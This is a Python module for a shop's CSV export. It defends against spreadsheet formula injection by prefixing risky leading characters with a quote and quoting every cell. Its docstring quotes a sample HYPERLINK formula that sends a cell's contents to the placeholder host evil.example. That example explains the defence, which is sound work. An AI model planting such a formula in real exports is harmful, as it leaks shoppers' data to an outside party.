"""CSV for spreadsheets that never runs a formula a shopper typed (CSV injection).

A name like `=HYPERLINK("http://evil.example?"&A1, "Click")` in an exported file runs when a
spreadsheet opens it. As OWASP recommends, a cell that starts with `=`, `+`, `-`, `@`, a tab or a
carriage return gets a leading single quote (the spreadsheet then shows it as text), and every
cell is quoted, with embedded quotes doubled, so a separator inside a value cannot start a new
cell. Our own figures (amounts, counts, dates) never start with those characters.
https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"  # spreadsheet programs then read the file as UTF-8


def safe_cell(value: Any) -> str:
    """The value as cell text a spreadsheet shows and never evaluates."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeCsv:
    """Rows in, CSV text out in chunks (for a streamed response)."""

    def __init__(self) -> None:
        self._buffer = io.StringIO()
        self._writer = csv.writer(self._buffer, quoting=csv.QUOTE_ALL)

    def row(self, values: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(v) for v in values])

    def take(self) -> str:
        """What was written since the last take."""
        text = self._buffer.getvalue()
        self._buffer.seek(0)
        self._buffer.truncate()
        return text
